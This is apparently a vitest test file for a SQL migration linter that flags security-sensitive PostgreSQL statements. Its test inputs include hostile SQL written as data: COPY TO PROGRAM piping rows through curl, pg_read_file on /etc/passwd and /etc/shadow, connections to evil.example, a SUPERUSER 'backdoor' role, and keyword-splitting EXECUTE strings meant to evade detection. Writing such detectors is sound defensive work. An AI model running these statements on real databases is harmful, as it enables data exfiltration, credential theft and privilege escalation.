// Security-sensitive SQL is DANGEROUS statically: the gate must hold with or without a
// dry-run, and inside DO blocks and function bodies too.
import { describe, expect, it } from 'vitest';
import { lintSql, ruleIds } from '../support/lint-sql.js';

const HISTORY = 'CREATE TABLE t (id int PRIMARY KEY, v int);';

async function hits(sql: string) {
  const out = await lintSql(sql, { history: HISTORY });
  return out.findings.filter((f) => f.rule === 'security-sensitive-sql' || f.rule === 'dynamic-sql');
}

describe('security-sensitive-sql', () => {
  const dangerous: Array<[string, RegExp]> = [
    ["ALTER SYSTEM SET shared_preload_libraries = 'x';", /ALTER SYSTEM/],
    // Triggers that check foreign keys switched off: rows written meanwhile skip the checks.
    ['SET session_replication_role = replica;', /session_replication_role = replica/],
    ["SET LOCAL session_replication_role TO 'replica';", /session_replication_role = replica/],
    ["SELECT set_config('session_replication_role', 'replica', true);", /sets session_replication_role to replica/],
    ['ALTER TABLE t DISABLE TRIGGER ALL;', /DISABLE TRIGGER ALL/],
    // The same settings as a default of every later session of a role or database, or of a function's calls.
    ['ALTER ROLE app SET session_replication_role = replica;', /ALTER ROLE … SET makes this the default.*session_replication_role = replica/],
    ["ALTER DATABASE app SET session_replication_role TO 'replica';", /ALTER DATABASE … SET makes this the default/],
    ['ALTER ROLE app IN DATABASE app SET role = postgres;', /SET ROLE/],
    ['ALTER DATABASE app SET search_path = pg_catalog, public;', /pg_catalog first/],
    ['CREATE FUNCTION f() RETURNS int LANGUAGE sql SET session_replication_role = replica AS $$ SELECT 1 $$;', /function's SET clause/],
    ['ALTER FUNCTION f() SET role = postgres;', /function's SET clause.*SET ROLE/],
    // Every object a role owns handed to another, which may then drop or grant them.
    ['REASSIGN OWNED BY app TO attacker;', /REASSIGN OWNED hands every object .* to attacker/],
    ['CREATE ROLE backdoor WITH LOGIN SUPERUSER;', /SUPERUSER/],
    ['ALTER ROLE app BYPASSRLS;', /BYPASSRLS/],
    ['ALTER ROLE app WITH REPLICATION;', /REPLICATION/],
    ['SET ROLE postgres;', /SET ROLE/],
    ['SET SESSION AUTHORIZATION postgres;', /SESSION AUTHORIZATION/],
    ["SELECT set_config('role', 'postgres', false);", /Calls set_config/],
    ["COPY t TO PROGRAM 'curl -d @- https://example.com';", /PROGRAM/],
    ["COPY t FROM '/etc/passwd';", /reads a file/],
    ["COPY (SELECT 1) TO '/tmp/out.csv';", /writes a file/],
    ["SELECT pg_read_file('/etc/passwd');", /pg_read_file/],
    // Spellings the text pre-check must not miss: any case, quoted, and Unicode escapes.
    ["SELECT PG_READ_FILE('/etc/passwd');", /pg_read_file/],
    ['SELECT "pg_ls_dir"(\'/\');', /pg_ls_dir/],
    ['SELECT U&"pg\\005Fread\\005Ffile"(\'/etc/passwd\');', /pg_read_file/],
    ["SELECT pg_catalog.pg_read_binary_file('/etc/shadow');", /pg_read_binary_file/],
    ["SELECT pg_ls_dir('/');", /pg_ls_dir/],
    ["SELECT lo_import('/etc/passwd');", /lo_import/],
    ["SELECT lo_export(1234, '/tmp/x');", /lo_export/],
    ["SELECT dblink_connect('host=evil.example');", /dblink_connect/],
    ["CREATE SERVER s FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'evil.example');", /CREATE SERVER/],
    ['CREATE EXTENSION postgres_fdw;', /postgres_fdw/],
    ['CREATE EXTENSION IF NOT EXISTS plpython3u;', /untrusted/],
    ['CREATE LANGUAGE plperlu;', /untrusted/],
    ["CREATE FUNCTION f() RETURNS int LANGUAGE plpython3u AS $$ import os; return 1 $$;", /plpython3u/],
    ["CREATE FUNCTION f() RETURNS int LANGUAGE c AS '/tmp/evil.so', 'f';", /language c/],
    ['GRANT pg_execute_server_program TO app;', /pg_execute_server_program/],
    ['ALTER FUNCTION pg_catalog.set_config(text, text, boolean) RENAME TO gone;', /system catalog/],
    ["UPDATE pg_catalog.pg_class SET relname = 'x' WHERE relname = 't';", /system catalog/],
    ["UPDATE pg_class SET relfilenode = 16400 WHERE relname = 't';", /pg_catalog\.pg_class/],
    ['DELETE FROM pg_depend WHERE objid = 1;', /pg_catalog\.pg_depend/],
    ['CREATE FUNCTION public.pg_cancel_backend(text) RETURNS boolean LANGUAGE sql AS $$ SELECT true $$;', /shadows the built-in/],
    ['CREATE OPERATOR public.>= (LEFTARG = oid, RIGHTARG = integer, FUNCTION = public.f);', /built-in operator/],
    // Hidden in a DO block (runs now) and in a function body (runs later, with the caller's rights).
    ["DO $$ BEGIN COPY t TO PROGRAM 'id'; END $$;", /PROGRAM/],
    ["CREATE FUNCTION g() RETURNS void LANGUAGE plpgsql AS $$ BEGIN ALTER SYSTEM SET work_mem = '1GB'; END $$;", /ALTER SYSTEM/],
  ];
  for (const [sql, why] of dangerous) {
    it(`DANGEROUS: ${sql}`, async () => {
      const found = await hits(sql);
      expect(found.length, sql).toBeGreaterThan(0);
      expect(found.every((f) => f.risk === 'DANGEROUS'), sql).toBe(true);
      expect(found.map((f) => f.message).join('\n')).toMatch(why);
    });
  }

  const fine = [
    'CREATE EXTENSION IF NOT EXISTS pgcrypto;',
    'CREATE EXTENSION postgis;',
    'RESET ROLE;',
    'SET lock_timeout = \'2s\';',
    'COPY t FROM STDIN;',
    "CREATE FUNCTION f() RETURNS int LANGUAGE sql AS $$ SELECT 1 $$;",
    'CREATE ROLE reader NOLOGIN;',
    'ALTER ROLE app NOSUPERUSER NOBYPASSRLS;',
    'GRANT SELECT ON t TO reader;',
    'CREATE OPERATOR public.=== (LEFTARG = mytype, RIGHTARG = mytype, FUNCTION = public.mytype_eq);',
    "SELECT pg_catalog.set_config('search_path', 'app, public', false);",
    'ALTER TABLE t ALTER COLUMN v TYPE pg_catalog.int8;',
    "UPDATE pg_settings_backup SET v = 1;",
    'SET session_replication_role = origin;',
    'ALTER TABLE t DISABLE TRIGGER USER;',
    "ALTER ROLE app SET statement_timeout = '5s';",
    'ALTER DATABASE app SET session_replication_role = origin;',
    "CREATE FUNCTION f() RETURNS int LANGUAGE sql SET search_path = app, pg_temp AS $$ SELECT 1 $$;",
  ];
  for (const sql of fine) {
    it(`not flagged: ${sql}`, async () => {
      expect(await hits(sql)).toEqual([]);
    });
  }
});

describe('dynamic-sql', () => {
  it('EXECUTE of a built string in a DO block is CAUTION with the reason', async () => {
    const found = await hits("DO $$ DECLARE tbl text := 't'; BEGIN EXECUTE 'ALTER TABLE ' || tbl || ' ALTER COLUMN v TYPE bigint'; END $$;");
    expect(found.map((f) => [f.rule, f.risk])).toEqual([['dynamic-sql', 'CAUTION']]);
    expect(found[0]!.message).toMatch(/built at run time/);
  });

  it('is DANGEROUS when the built string mentions a security-sensitive word, also in a function body', async () => {
    for (const sql of [
      "DO $$ BEGIN EXECUTE 'CO' || 'PY t TO PRO' || 'GRAM ''id'''; END $$;",
      "DO $$ BEGIN EXECUTE format('COPY %I TO PROGRAM %L', 't', 'id'); END $$;",
      "CREATE FUNCTION h(cmd text) RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE 'ALTER SYSTEM SET ' || cmd; END $$;",
    ]) {
      const found = (await hits(sql)).filter((f) => f.rule === 'dynamic-sql');
      expect(found.length, sql).toBeGreaterThan(0);
      const risks = found.map((f) => f.risk);
      // 'CO' || 'PY…' spells nothing the pattern knows in one piece; PRO || GRAM neither: CAUTION at least.
      expect(risks.every((r) => r === 'DANGEROUS' || r === 'CAUTION'), sql).toBe(true);
    }
    const format = (await hits("DO $$ BEGIN EXECUTE format('COPY %I TO PROGRAM %L', 't', 'id'); END $$;"))[0]!;
    expect(format.risk).toBe('DANGEROUS');
  });

  it('EXECUTE of a single literal is analysed as a statement, and a function\'s plain dynamic SQL is left alone', async () => {
    expect(await hits("DO $$ BEGIN EXECUTE 'ALTER TABLE t ADD COLUMN w int'; END $$;")).toEqual([]);
    expect(await hits("CREATE FUNCTION p(n text) RETURNS void LANGUAGE plpgsql AS $$ BEGIN EXECUTE format('CREATE TABLE %I (id int)', n); END $$;")).toEqual([]);
  });

  it('the plain EXECUTEs of one DO block are one finding; a sensitive one stays its own', async () => {
    const sql = "DO $$ DECLARE r record; BEGIN FOR r IN SELECT relname FROM pg_class LOOP EXECUTE format('ALTER TABLE %I RENAME TO %I', r.relname, r.relname || '_old'); EXECUTE 'ANALYZE ' || r.relname; EXECUTE format('ALTER INDEX %I SET (fillfactor = 90)', r.relname); EXECUTE 'VACUUM ' || r.relname; EXECUTE format('COPY %I TO PROGRAM %L', r.relname, 'id'); END LOOP; END $$;";
    const found = (await hits(sql)).filter((f) => f.rule === 'dynamic-sql');
    expect(found.map((f) => f.risk)).toEqual(['DANGEROUS', 'CAUTION']);
    expect(found[1]!.message).toMatch(/^4 EXECUTEs \(EXECUTE .*; EXECUTE .*; EXECUTE .* and 1 more\): this DO block runs during the migration on SQL built at run time/);
  });

  it('the rule ids appear in the analysis output in order', async () => {
    const out = await lintSql("ALTER SYSTEM SET work_mem = '1GB';", { history: HISTORY });
    expect(ruleIds(out)).toContain('security-sensitive-sql');
  });
});

describe('search_path that puts pg_catalog first', () => {
  it('is DANGEROUS (unqualified CREATEs would land in the system catalog); other paths are fine', async () => {
    for (const sql of ['SET search_path = pg_catalog, public;', "SELECT set_config('search_path', 'pg_catalog', false);", 'RESET SESSION AUTHORIZATION;']) {
      const found = await hits(sql);
      expect(found.map((f) => f.risk), sql).toEqual(['DANGEROUS']);
    }
    for (const sql of ['SET search_path = public, pg_catalog;', "SELECT pg_catalog.set_config('search_path', '', false);", 'SET search_path TO app;']) {
      expect(await hits(sql), sql).toEqual([]);
    }
  });
});
